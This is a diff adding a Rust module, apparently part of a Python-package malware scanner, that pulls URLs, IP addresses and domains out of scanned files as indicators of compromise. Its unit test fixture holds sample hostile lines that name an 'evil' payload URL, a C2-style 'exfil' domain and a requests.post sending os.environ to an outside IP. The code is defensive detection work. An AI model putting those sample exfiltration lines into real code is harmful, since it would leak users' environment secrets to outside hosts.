@@ -0,0 +1,317 @@
+//! Extraction of network indicators of compromise.
+//!
+//! URLs, IPv4 addresses and domains are pulled out of every scanned file, so they can be pivoted
+//! on without downloading the package again. This is a plain text search, so it works the same
+//! on any kind of file:
+//!
+//! - URLs are anything starting with `http://`, `https://` or `ftp://`
+//! - IP addresses are dotted quads, except loopback, unspecified, broadcast and documentation
+//!   addresses
+//! - domains are dotted names ending in a common top-level domain that aren't part of a URL, an
+//!   identifier (`logger.info`) or an email address (`author@example.com`)
+//!
+//! Indicators pointing at the usual hosts of the Python ecosystem (like `pypi.org` or
+//! `github.com`) are left out, every package would have them. Each indicator is reported once per
+//! distribution, at its first occurrence.
+
+use std::{collections::HashSet, net::Ipv4Addr, path::Path};
+
+use serde::Serialize;
+
+/// What kind of indicator an [`Ioc`] is
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum IocKind {
+    Url,
+    Ip,
+    Domain,
+}
+
+/// A network indicator found in a file
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Ioc {
+    /// The file name of the distribution the indicator was found in, see
+    /// [`crate::analyzers::Finding::distribution`]
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub distribution: Option<String>,
+
+    /// The path of the file, relative to the distribution's archive root
+    pub path: String,
+
+    pub kind: IocKind,
+    pub value: String,
+
+    /// The byte offset of the indicator in the file
+    pub offset: usize,
+
+    /// The text around the indicator, on the same line
+    pub context: String,
+}
+
+/// URL schemes that start a URL
+const SCHEMES: &[&str] = &["http://", "https://", "ftp://"];
+
+/// Top-level domains that make a dotted name a domain. Ones that are common attribute names (like
+/// `info` or `name`) are left out.
+const TLDS: &[&str] = &[
+    "com", "net", "org", "io", "ru", "cn", "su", "xyz", "top", "tk", "ml", "ga", "cf", "gq", "pw",
+    "cc", "ws", "biz", "co", "us", "uk", "de", "fr", "nl", "ly", "gl", "onion", "icu", "shop",
+    "cloud", "online",
+];
+
+/// Hosts (and their subdomains) that every package points at
+const BENIGN_HOSTS: &[&str] = &[
+    "python.org",
+    "pypi.org",
+    "pythonhosted.org",
+    "readthedocs.io",
+    "readthedocs.org",
+    "github.com",
+    "githubusercontent.com",
+    "gitlab.com",
+    "bitbucket.org",
+    "opensource.org",
+    "apache.org",
+    "gnu.org",
+    "creativecommons.org",
+    "w3.org",
+    "example.com",
+    "example.org",
+    "example.net",
+];
+
+/// The bytes of context kept on each side of an indicator
+const CONTEXT_LENGTH: usize = 40;
+
+fn is_host_byte(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || byte == b'.' || byte == b'-'
+}
+
+fn is_url_byte(byte: u8) -> bool {
+    byte.is_ascii_graphic() && !b"\"'<>`{}|\\^".contains(&byte)
+}
+
+fn is_benign(host: &str) -> bool {
+    let host = host.to_ascii_lowercase();
+    BENIGN_HOSTS.iter().any(|benign| {
+        host == *benign
+            || host
+                .strip_suffix(benign)
+                .is_some_and(|subdomain| subdomain.ends_with('.'))
+    })
+}
+
+/// Whether `ip` is worth reporting
+fn is_notable(ip: Ipv4Addr) -> bool {
+    !(ip.is_loopback() || ip.is_unspecified() || ip.is_broadcast() || ip.is_documentation())
+}
+
+/// Whether `name` is a domain with a well-known top-level domain
+fn is_domain(name: &str) -> bool {
+    let labels = name.split('.').collect::<Vec<_>>();
+    let Some(tld) = labels.last() else {
+        return false;
+    };
+
+    labels.len() >= 2
+        && TLDS.iter().any(|known| known.eq_ignore_ascii_case(tld))
+        && labels.iter().all(|label| {
+            (1..=63).contains(&label.len()) && !label.starts_with('-') && !label.ends_with('-')
+        })
+}
+
+/// The host of a URL, from right after its scheme
+fn url_host(rest: &str) -> &str {
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    let host = authority.rsplit('@').next().unwrap_or_default();
+    host.split(':').next().unwrap_or_default()
+}
+
+/// The line around `start..end` of `contents`, cut to [`CONTEXT_LENGTH`] bytes on each side
+fn context(contents: &[u8], start: usize, end: usize) -> String {
+    let line_start = contents[..start]
+        .iter()
+        .rposition(|byte| *byte == b'\n')
+        .map_or(0, |newline| newline + 1);
+    let line_end = contents[end..]
+        .iter()
+        .position(|byte| *byte == b'\n')
+        .map_or(contents.len(), |newline| end + newline);
+
+    let from = line_start.max(start.saturating_sub(CONTEXT_LENGTH));
+    let to = line_end.min(end + CONTEXT_LENGTH);
+    String::from_utf8_lossy(&contents[from..to])
+        .trim()
+        .to_owned()
+}
+
+/// Find the indicators in `contents`, as their kind, value and byte offset
+fn extract(contents: &[u8]) -> Vec<(IocKind, String, usize)> {
+    let mut iocs = Vec::new();
+    let mut i = 0;
+
+    while i < contents.len() {
+        let rest = &contents[i..];
+        let scheme = SCHEMES.iter().find(|scheme| {
+            rest.len() >= scheme.len()
+                && rest[..scheme.len()].eq_ignore_ascii_case(scheme.as_bytes())
+        });
+
+        if let Some(scheme) = scheme {
+            let mut end = i + rest
+                .iter()
+                .position(|byte| !is_url_byte(*byte))
+                .unwrap_or(rest.len());
+            while end > i && b".,;:!?)]".contains(&contents[end - 1]) {
+                end -= 1;
+            }
+            let url = String::from_utf8_lossy(&contents[i..end]).into_owned();
+            let host = url_host(&url[scheme.len()..]);
+            let has_host = host.contains('.') || host.parse::<Ipv4Addr>().is_ok();
+            if has_host && !is_benign(host) {
+                iocs.push((IocKind::Url, url, i));
+            }
+            i = end.max(i + 1);
+            continue;
+        }
+
+        let starts_token =
+            i == 0 || !(is_host_byte(contents[i - 1]) || b"_@".contains(&contents[i - 1]));
+        if !contents[i].is_ascii_alphanumeric() || !starts_token {
+            i += 1;
+            continue;
+        }
+
+        let mut end = i + rest
+            .iter()
+            .position(|byte| !is_host_byte(*byte))
+            .unwrap_or(rest.len());
+        let next = contents.get(end).copied();
+        while end > i && b".-".contains(&contents[end - 1]) {
+            end -= 1;
+        }
+        // identifiers and calls, like `os.path.join(`
+        let in_code = next.is_some_and(|next| next == b'_' || next == b'(');
+        let token = String::from_utf8_lossy(&contents[i..end]).into_owned();
+
+        if let Ok(ip) = token.parse::<Ipv4Addr>() {
+            if is_notable(ip) {
+                iocs.push((IocKind::Ip, token, i));
+            }
+        } else if !in_code && is_domain(&token) && !is_benign(&token) {
+            iocs.push((IocKind::Domain, token.to_ascii_lowercase(), i));
+        }
+        i = end.max(i + 1);
+    }
+
+    iocs
+}
+
+/// The indicators found in the files of a distribution
+#[derive(Debug, Default)]
+pub struct Iocs {
+    found: Vec<Ioc>,
+    seen: HashSet<(IocKind, String)>,
+    max: usize,
+}
+
+impl Iocs {
+    /// Collect at most `max` indicators, none if it's 0
+    pub fn new(max: usize) -> Self {
+        Self {
+            max,
+            ..Self::default()
+        }
+    }
+
+    /// Extract the indicators of the file at `path` with the given `contents`
+    pub fn add(&mut self, path: &Path, contents: &[u8]) {
+        if self.found.len() >= self.max {
+            return;
+        }
+
+        for (kind, value, offset) in extract(contents) {
+            if self.found.len() >= self.max {
+                break;
+            }
+            if !self.seen.insert((kind, value.clone())) {
+                continue;
+            }
+
+            self.found.push(Ioc {
+                distribution: None,
+                path: path.to_string_lossy().into_owned(),
+                kind,
+                context: context(contents, offset, offset + value.len()),
+                value,
+                offset,
+            });
+        }
+    }
+
+    pub fn into_vec(self) -> Vec<Ioc> {
+        self.found
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{extract, IocKind, Iocs};
+    use std::path::Path;
+
+    fn values(contents: &str) -> Vec<(IocKind, String)> {
+        extract(contents.as_bytes())
+            .into_iter()
+            .map(|(kind, value, _)| (kind, value))
+            .collect()
+    }
+
+    #[test]
+    fn extracts_network_indicators() {
+        let source = r#"
+import os, logging
+logging.info("starting")
+URL = "https://evil.example.ru/payload.sh?x=1".
+requests.post("http://45.13.227.9:8080/upload", data=os.environ)
+HOST = 'Exfil.C2-Server.xyz'
+sock.connect(("185.220.101.4", 443))
+# author@maintainer.com, see https://github.com/pkg/pkg and https://pypi.org
+os.path.join(a, b); x = self.cc_value; v = "1.2.3"; local = "127.0.0.1"
+"#;
+        assert_eq!(
+            values(source),
+            [
+                (
+                    IocKind::Url,
+                    "https://evil.example.ru/payload.sh?x=1".to_owned()
+                ),
+                (IocKind::Url, "http://45.13.227.9:8080/upload".to_owned()),
+                (IocKind::Domain, "exfil.c2-server.xyz".to_owned()),
+                (IocKind::Ip, "185.220.101.4".to_owned()),
+            ]
+        );
+    }
+
+    #[test]
+    fn reports_every_indicator_once_with_its_context() {
+        let mut iocs = Iocs::new(2);
+        iocs.add(Path::new("pkg/a.py"), b"x = 1\nconnect('1.1.1.1')  # dns\n");
+        iocs.add(Path::new("pkg/b.py"), b"1.1.1.1 evil.com other.net");
+        let iocs = iocs.into_vec();
+
+        assert_eq!(iocs.len(), 2);
+        assert_eq!(
+            (
+                iocs[0].path.as_str(),
+                iocs[0].offset,
+                iocs[0].context.as_str()
+            ),
+            ("pkg/a.py", 15, "connect('1.1.1.1')  # dns")
+        );
+        assert_eq!(
+            (iocs[1].kind, iocs[1].value.as_str()),
+            (IocKind::Domain, "evil.com")
+        );
+        assert!(Iocs::new(0).into_vec().is_empty());
+    }
+}